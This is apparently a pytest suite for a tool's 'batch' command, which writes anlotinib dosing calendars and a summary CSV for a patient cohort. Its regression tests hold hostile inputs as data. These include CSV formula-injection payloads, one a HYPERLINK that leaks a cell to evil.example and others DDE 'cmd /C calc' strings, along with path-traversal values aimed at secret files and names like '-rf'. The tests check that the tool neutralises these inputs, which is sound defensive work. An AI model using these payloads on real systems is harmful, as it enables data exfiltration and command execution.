"""``regimen batch``: a cohort in one run; bad rows are reported, not fatal; no path escapes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.helpers import README_AE_LOG, one_error_line


def _cohort(tmp_path: Path, n_good: int, bad: int) -> Path:
    (tmp_path / "log.csv").write_text(README_AE_LOG, encoding="utf-8")
    rows = ["patient,regimen,start,ae_log,cycles,start_dose"]
    rows += [f"P{i:04d},lms-rt-anlotinib,2022-05-16,,2," for i in range(n_good)]
    rows.append("../../etc/x,anlotinib-sts,2022-01-03,log.csv,3,")
    rows += [f"B{j},nope,2022-01-03,,2," for j in range(bad // 2)]
    rows += [f"C{j},anlotinib-sts,2022-02-30,,2," for j in range(bad - bad // 2)]
    path = tmp_path / "cohort.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_batch_reports_bad_rows_and_writes_the_rest(run, tmp_path: Path, jobs: str) -> None:
    cohort = _cohort(tmp_path, n_good=20, bad=10)
    out = tmp_path / "out"
    r = run(
        "batch",
        str(cohort),
        "--output-dir",
        str(out),
        "--jobs",
        jobs,
        "--generated-at",
        "2022-01-01T00:00:00Z",
    )
    assert r.exit_code == 1, r.stderr
    assert r.stdout.startswith("21 of 31 patients written")
    files = sorted(p.name for p in out.iterdir())
    assert len(files) == 22  # 21 calendars + summary.csv
    # a key beginning with '.' is renamed (and its '/' and '.' are '_' anyway)
    assert "patient-______etc_x.ics" in files
    assert not (tmp_path.parent / "etc").exists()
    summary = list(csv.DictReader(io.StringIO((out / "summary.csv").read_text(encoding="utf-8"))))
    errors = [s for s in summary if s["status"] == "error"]
    assert len(errors) == 10
    assert all(e["error"].startswith("line ") for e in errors)
    assert any("nope: no bundled regimen or file of that name" in e["error"] for e in errors)
    assert any("'2022-02-30' is not a real date" in e["error"] for e in errors)
    traversal = next(s for s in summary if s["patient"] == "../../etc/x")
    # 7 x 12 mg + 3 x 10 mg + 2 x 14 x 10 mg = 394 mg (same log as the calendar acceptance)
    assert traversal["drug_delivered"] == "anlotinib=394 mg"


def test_batch_rerun_is_identical_and_atomic(run, tmp_path: Path) -> None:
    cohort = _cohort(tmp_path, n_good=3, bad=0)
    out = tmp_path / "out"
    argv = [
        "batch",
        str(cohort),
        "--output-dir",
        str(out),
        "--generated-at",
        "2022-01-01T00:00:00Z",
    ]
    assert run(*argv).exit_code == 0
    first = {p.name: p.read_bytes() for p in out.iterdir()}
    assert run(*argv).exit_code == 0
    assert {p.name: p.read_bytes() for p in out.iterdir()} == first
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_batch_duplicate_keys_and_bad_header(run, tmp_path: Path) -> None:
    cohort = tmp_path / "c.csv"
    cohort.write_text(
        "patient,regimen,start\na/b,anlotinib-sts,2022-01-03\na_b,anlotinib-sts,2022-01-03\n",
        encoding="utf-8",
    )
    r = run("batch", str(cohort), "--output-dir", str(tmp_path / "o"), "--format", "json")
    assert r.exit_code == 1
    summary = (tmp_path / "o" / "summary.csv").read_text(encoding="utf-8")
    assert "maps to the same file as line 2" in summary
    bad = tmp_path / "bad.csv"
    bad.write_text("patient,start\nx,2022-01-03\n", encoding="utf-8")
    line = one_error_line(run("batch", str(bad), "--output-dir", str(tmp_path / "o2")))
    assert line.startswith(f"error: {bad}: line 1: missing column 'regimen'")
    assert not (tmp_path / "o2").exists()


# ---------------------------------------------------------------------------------------------
# regressions (each fails on the code before the app pipeline)

STAMP = "2022-01-01T00:00:00Z"


def _write_cohort(folder: Path, rows: list[str], name: str = "cohort.csv") -> Path:
    path = folder / name
    path.write_text(
        "patient,regimen,start,ae_log,cycles,start_dose\n" + "\n".join(rows) + "\n",
        encoding="utf-8",
    )
    return path


def _batch(run, cohort: Path, out: Path, *extra: str):
    return run("batch", str(cohort), "--output-dir", str(out), "--generated-at", STAMP, *extra)


def _summary(out: Path) -> list[dict[str, str]]:
    text = (out / "summary.csv").read_bytes().decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _uids(path: Path) -> set[str]:
    text = path.read_bytes().decode("utf-8").replace("\r\n ", "")
    return {line[4:] for line in text.split("\r\n") if line.startswith("UID:")}


def test_regression_batch_uids_differ_between_patients_on_one_regimen(run, tmp_path) -> None:
    # Two patients on the same regimen and start imported into one calendar must not replace
    # each other's events: the patient key is the plan id mixed into every UID (RFC 5545
    # 3.8.4.7: a UID is globally unique), and it never appears in the file.
    cohort = _write_cohort(
        tmp_path,
        ["MRN-0001,anlotinib-sts,2022-01-03,,2,", "MRN-0002,anlotinib-sts,2022-01-03,,2,"],
    )
    out = tmp_path / "out"
    assert _batch(run, cohort, out).exit_code == 0
    first, second = _uids(out / "MRN-0001.ics"), _uids(out / "MRN-0002.ics")
    assert len(first) == len(second) == 28
    assert first.isdisjoint(second)
    for name in ("MRN-0001", "MRN-0002"):
        assert name not in (out / f"{name}.ics").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "key",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",  # read as "=1+1": cells are stripped
    ],
)
def test_regression_summary_csv_neutralises_formula_cells(run, tmp_path, key: str) -> None:
    # OWASP "CSV Injection": a cell beginning with = + - @ or a tab is prefixed with ' so a
    # spreadsheet shows it as text; RFC 4180 quoting keeps commas and quotes in their cell.
    quoted = '"' + key.replace('"', '""') + '"'
    cohort = _write_cohort(
        tmp_path, [f"{quoted},{quoted},{quoted},,,", "P1,anlotinib-sts,2022-01-03,,1,"]
    )
    out = tmp_path / "out"
    _batch(run, cohort, out)
    rows = _summary(out)
    assert len(rows) == 2
    for column in ("patient", "regimen", "start"):
        cell = rows[0][column]
        assert cell[0] not in "=+-@\t\r", cell
        assert cell.startswith("'")
    assert rows[1]["patient"] == "P1"


def test_regression_summary_csv_lone_cr_in_a_key_forges_no_row() -> None:
    # The old writer ended rows with "\n" and left a lone CR unquoted: a spreadsheet read the
    # CR as a row end and showed a forged row. RFC 4180: CRLF row ends, CR kept in its cell
    # (and, in summary.csv, shown escaped: it is a copy of input).
    from regimen.batch import Outcome, Row, summary_csv

    rows = [
        Outcome(Row(2, "A\r=HYPERLINK(1)", "x", "y"), "error", error="bad"),
        Outcome(Row(3, "\t=1+1", "x", "y"), "error", error="bad"),
    ]
    data = summary_csv(rows).encode("utf-8")
    assert data.count(b"\n") == data.count(b"\r\n") == 3
    assert b"\r=" not in data and b"\t" not in data
    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["patient"] for r in parsed] == ["A\\x0d=HYPERLINK(1)", "\\x09=1+1"]


@pytest.mark.parametrize(
    ("cell", "what"), [("A\r=HYPERLINK(1)", "a carriage return"), ("a\t=1+1", "a tab")]
)
def test_regression_cohort_cell_with_a_control_character_is_refused(
    run, tmp_path, cell: str, what: str
) -> None:
    cohort = tmp_path / "cohort.csv"
    quoted = '"' + cell + '"'
    cohort.write_bytes(f"patient,regimen,start\r\n{quoted},anlotinib-sts,2022-01-03\r\n".encode())
    out = tmp_path / "out"
    line = one_error_line(run("batch", str(cohort), "--output-dir", str(out)))
    assert line.startswith(f"error: {cohort}: line 2: patient: holds {what}")
    assert not (out / "summary.csv").exists()


def _secret(tmp_path: Path) -> Path:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET:x:0:0:root\n", encoding="utf-8")
    return secret


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "symlink"])
def test_regression_batch_ae_log_cannot_leave_the_cohort_folder(run, tmp_path, kind) -> None:
    secret = _secret(tmp_path)
    folder = tmp_path / "cohort"
    folder.mkdir()
    if kind == "absolute":
        cell = str(secret)
    elif kind == "dotdot":
        cell = "../secret.txt"
    else:
        (folder / "link.csv").symlink_to(secret)
        cell = "link.csv"
    cohort = _write_cohort(folder, [f"P1,anlotinib-sts,2022-01-03,{cell},1,"])
    out = tmp_path / "out"
    r = _batch(run, cohort, out)
    assert r.exit_code == 1
    (row,) = _summary(out)
    assert row["status"] == "error"
    assert row["error"].startswith(f"line 2: ae_log {cell}: ")
    assert "TOPSECRET" not in (out / "summary.csv").read_text(encoding="utf-8")
    assert "TOPSECRET" not in r.output


def test_regression_batch_regimen_path_cannot_leave_the_cohort_folder(run, tmp_path) -> None:
    folder = tmp_path / "cohort"
    folder.mkdir()
    regimen = Path(__file__).parent / "data" / "invalid" / "regimens" / "dose-in-mg.toml"
    cohort = _write_cohort(
        folder,
        [f"P1,{regimen},2022-01-03,,1,", "P2,../x.toml,2022-01-03,,1,", "P3,cwd,2022-01-03,,1,"],
    )
    out = tmp_path / "out"
    assert _batch(run, cohort, out).exit_code == 1
    errors = [row["error"] for row in _summary(out)]
    assert errors[0].startswith(f"line 2: regimen {regimen}: is an absolute path")
    assert errors[1].startswith("line 3: regimen ../x.toml: may not contain '..'")
    assert errors[2].startswith("line 4: cwd: no bundled regimen or file of that name")


def test_regression_batch_file_that_is_not_an_ae_log_is_not_quoted(run, tmp_path) -> None:
    folder = tmp_path / "cohort"
    folder.mkdir()
    (folder / "notes.csv").write_text("TOPSECRET,diagnosis\nx,y\n", encoding="utf-8")
    cohort = _write_cohort(folder, ["P1,anlotinib-sts,2022-01-03,notes.csv,1,"])
    out = tmp_path / "out"
    _batch(run, cohort, out)
    (row,) = _summary(out)
    assert row["error"] == (
        "line 2: notes.csv: is not an AE log: its first line is not a header with the columns "
        "date, term and grade"
    )
    assert "TOPSECRET" not in (out / "summary.csv").read_text(encoding="utf-8")


def test_batch_data_dir_is_where_cohort_paths_live(run, tmp_path) -> None:
    data = tmp_path / "data"
    (data / "logs").mkdir(parents=True)
    (data / "logs" / "p1.csv").write_text(README_AE_LOG, encoding="utf-8")
    elsewhere = tmp_path / "cohorts"
    elsewhere.mkdir()
    cohort = _write_cohort(
        elsewhere,
        [
            "P1,anlotinib-sts,2022-01-03,logs/p1.csv,3,",
            "P2,anlotinib-sts,2022-01-03,../x.csv,3,",
            f"P3,anlotinib-sts,2022-01-03,{data / 'logs' / 'p1.csv'},3,",  # absolute, inside
            f"P4,anlotinib-sts,2022-01-03,{elsewhere / 'cohort.csv'},3,",  # absolute, outside
        ],
    )
    out = tmp_path / "out"
    r = _batch(run, cohort, out, "--data-dir", str(data))
    assert r.exit_code == 1
    ok, bad = _summary(out)[:2]
    # 7 x 12 mg + 3 x 10 mg + 2 x 14 x 10 mg = 394 mg (the HFSR log, as in test_cli_calendar)
    assert (ok["status"], ok["drug_delivered"]) == ("ok", "anlotinib=394 mg")
    assert "may not contain '..'" in bad["error"]
    inside, outside = _summary(out)[2:]
    assert inside["drug_delivered"] == "anlotinib=394 mg"
    assert "is outside the cohort's folder (or --data-dir)" in outside["error"]


@pytest.mark.parametrize("key", ["summary", "SUMMARY", "Summary"])
def test_regression_batch_patient_keyed_summary_is_not_overwritten(run, tmp_path, key) -> None:
    cohort = _write_cohort(tmp_path, [f"{key},anlotinib-sts,2022-01-03,,1,"])
    out = tmp_path / "out"
    assert _batch(run, cohort, out, "--format", "csv").exit_code == 0
    (row,) = _summary(out)
    assert row["file"] == f"patient-{key}.csv"
    assert "reserved" in row["note"]
    # the patient's calendar is whole: 14 dosing days of cycle 1
    patient = list(csv.DictReader(io.StringIO((out / row["file"]).read_text(encoding="utf-8"))))
    assert len([p for p in patient if p["kind"] == "dose"]) == 14


@pytest.mark.parametrize(
    ("key", "file"),
    [
        ("CON", "patient-CON.ics"),
        ("nul", "patient-nul.ics"),
        ("com1", "patient-com1.ics"),
        ("LPT9", "patient-LPT9.ics"),
        ("-rf", "patient--rf.ics"),
        (".hidden", "patient-_hidden.ics"),
        ("nul.txt", "patient-nul_txt.ics"),
        ("Aux.csv", "patient-Aux_csv.ics"),
        ("..", None),
    ],
)
def test_batch_reserved_and_dangerous_names(run, tmp_path, key: str, file: str | None) -> None:
    cohort = _write_cohort(tmp_path, [f"{key},anlotinib-sts,2022-01-03,,1,"])
    out = tmp_path / "out"
    _batch(run, cohort, out)
    (row,) = _summary(out)
    if file is None:
        assert "has no usable characters" in row["error"]
        assert sorted(p.name for p in out.iterdir()) == ["summary.csv"]
        return
    assert row["file"] == file
    assert row["note"].startswith("file name prefixed with 'patient-': ")
    assert (out / file).is_file()
    assert not any(p.name.startswith((".", "-")) for p in out.iterdir())


def test_regression_batch_chinese_keys_are_kept_and_distinct(run, tmp_path) -> None:
    cohort = _write_cohort(
        tmp_path, ["张三1,anlotinib-sts,2022-01-03,,1,", "李四1,anlotinib-sts,2022-01-03,,1,"]
    )
    out = tmp_path / "out"
    assert _batch(run, cohort, out).exit_code == 0
    assert [row["file"] for row in _summary(out)] == ["张三1.ics", "李四1.ics"]


def test_batch_file_names_nfc_length_and_case_collisions(run, tmp_path) -> None:
    long_key = "患" * 60  # 180 bytes of UTF-8
    cohort = _write_cohort(
        tmp_path,
        [
            "Jos\u00e9,anlotinib-sts,2022-01-03,,1,",  # precomposed e-acute
            "Jose\u0301,anlotinib-sts,2022-01-03,,1,",  # e + combining acute: the same after NFC
            f"{long_key},anlotinib-sts,2022-01-03,,1,",
            "abc,anlotinib-sts,2022-01-03,,1,",
            "ABC,anlotinib-sts,2022-01-03,,1,",
        ],
    )
    out = tmp_path / "out"
    _batch(run, cohort, out)
    rows = _summary(out)
    assert rows[0]["file"] == "Jos\u00e9.ics"
    assert "maps to the same file as line 2" in rows[1]["error"]
    # 100 bytes at most, cut on a character boundary: 33 three-byte characters
    assert rows[2]["file"] == "患" * 33 + ".ics"
    assert rows[3]["file"] == "abc.ics"
    assert "maps to the same file as line 5" in rows[4]["error"]
    assert (out / "abc.ics").is_file() and not (out / "ABC.ics").exists()


def test_regression_batch_rerun_removes_the_file_of_a_row_that_now_fails(run, tmp_path) -> None:
    out = tmp_path / "out"
    good = _write_cohort(
        tmp_path, ["P1,anlotinib-sts,2022-01-03,,1,", "P2,anlotinib-sts,2022-01-03,,1,"]
    )
    assert _batch(run, good, out).exit_code == 0
    assert (out / "P1.ics").is_file()
    bad = _write_cohort(
        tmp_path, ["P1,anlotinib-sts,2022-02-30,,1,", "P2,anlotinib-sts,2022-01-03,,1,"]
    )
    assert _batch(run, bad, out).exit_code == 1
    first, second = _summary(out)
    assert first["status"] == "error"
    assert "'2022-02-30' is not a real date" in first["error"]
    assert "removed P1.ics" in first["error"]
    assert not (out / "P1.ics").exists()
    assert second["status"] == "ok" and (out / "P2.ics").is_file()


def test_batch_collision_never_removes_the_first_rows_file(run, tmp_path) -> None:
    out = tmp_path / "out"
    cohort = _write_cohort(
        tmp_path, ["a/b,anlotinib-sts,2022-01-03,,1,", "a_b,nope,2022-01-03,,1,"]
    )
    _batch(run, cohort, out)
    first, second = _summary(out)
    assert first["file"] == "a_b.ics" and (out / "a_b.ics").is_file()
    assert "maps to the same file as line 2" in second["error"]


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        # HFSR log: cycles 1-3 are 42 dosing days, 4 of them held (2022-01-10 to 01-13)
        ("ics", None),  # counted from the file: its VEVENTs
        ("json", 42),  # the events list, held days included (each marked held)
        ("csv", 42),  # rows with record=event
        ("html", 38),  # fraction and dose items drawn: held days are not doses
    ],
)
def test_regression_batch_events_column_counts_the_events_in_the_file(
    run, tmp_path, fmt: str, expected: int | None
) -> None:
    (tmp_path / "log.csv").write_text(README_AE_LOG, encoding="utf-8")
    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,log.csv,3,"])
    out = tmp_path / "out"
    assert _batch(run, cohort, out, "--format", fmt).exit_code == 0
    (row,) = _summary(out)
    text = (out / f"P1.{fmt}").read_bytes().decode("utf-8")
    if fmt == "ics":
        expected = text.count("\r\nBEGIN:VEVENT\r\n")
    assert int(row["events"]) == expected


def test_regression_batch_events_counts_a_discontinued_plans_file(run, tmp_path) -> None:
    # 8 mg and a grade 3 HFSR on 2022-01-10: discontinued that day after 7 doses; the ics file
    # holds more than those 7 events (a stop event, the cancelled rest of the baseline)
    (tmp_path / "log.csv").write_text(README_AE_LOG, encoding="utf-8")
    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,log.csv,2,8mg"])
    out = tmp_path / "out"
    assert _batch(run, cohort, out).exit_code == 0
    (row,) = _summary(out)
    assert row["discontinued"] == "anlotinib=2022-01-10"
    text = (out / "P1.ics").read_bytes().decode("utf-8")
    assert int(row["events"]) == text.count("\r\nBEGIN:VEVENT\r\n")


@pytest.mark.parametrize("cycles", ["²", "٣", "1_0", "9" * 5000])
def test_regression_batch_non_ascii_cycles_is_a_row_error(run, tmp_path, cycles: str) -> None:
    cohort = _write_cohort(
        tmp_path, [f"P1,anlotinib-sts,2022-01-03,,{cycles},", "P2,anlotinib-sts,2022-01-03,,1,"]
    )
    out = tmp_path / "out"
    r = _batch(run, cohort, out)
    assert r.exit_code == 1, r.output
    first, second = _summary(out)
    assert first["error"].startswith("line 2: cycles: ")
    assert second["status"] == "ok"


def test_regression_batch_summary_that_cannot_be_written_is_one_line(
    run, tmp_path, monkeypatch
) -> None:
    import errno
    import tempfile

    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,,1,"])
    out = tmp_path / "out"
    (out / "summary.csv").mkdir(parents=True)
    line = one_error_line(_batch(run, cohort, out))
    assert line.startswith(f"error: {out / 'summary.csv'}: is not a regular file")
    assert not (out / "P1.ics").exists()  # refused before any patient was written
    (out / "summary.csv").rmdir()

    real = tempfile.mkstemp

    def full_disk(*args: object, **kwargs: object) -> tuple[int, str]:
        if str(kwargs.get("prefix", "")).startswith(".summary.csv."):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(tempfile, "mkstemp", full_disk)
    line = one_error_line(_batch(run, cohort, out))
    assert line == f"error: {out / 'summary.csv'}: No space left on device"
    assert sorted(p.name for p in out.iterdir()) == ["P1.ics"]


def test_batch_summary_from_an_earlier_run_goes_first(run, tmp_path) -> None:
    out = tmp_path / "out"
    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,,1,"])
    out.mkdir()
    (out / "summary.csv").write_text("stale", encoding="utf-8")
    _batch(run, cohort, out, "--format", "json")
    assert _summary(out)[0]["file"] == "P1.json"


def test_regression_batch_source_date_epoch_non_ascii_digits(run, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "²")
    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,,1,"])
    out = tmp_path / "out"
    line = one_error_line(run("batch", str(cohort), "--output-dir", str(out)))
    assert (
        line == "error: SOURCE_DATE_EPOCH: must be whole seconds since 1970 (digits 0-9), got '²'"
    )


@pytest.mark.parametrize("jobs", ["٤", "²", "1_0"])
def test_regression_jobs_takes_ascii_digits_only(run, tmp_path, jobs: str) -> None:
    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,,1,"])
    line = one_error_line(run("batch", str(cohort), "--output-dir", str(tmp_path), "--jobs", jobs))
    assert line == (
        f"error: cli batch: Invalid value for '--jobs': '{jobs}' is not a valid integer range."
    )


def test_regression_batch_output_dir_name_too_long(run, tmp_path) -> None:
    cohort = _write_cohort(tmp_path, ["P1,anlotinib-sts,2022-01-03,,1,"])
    out = tmp_path / ("d" * 300)
    line = one_error_line(run("batch", str(cohort), "--output-dir", str(out)))
    assert line == (
        f"error: --output-dir {out}: file name too long (300 bytes in one name; at most 255)"
    )
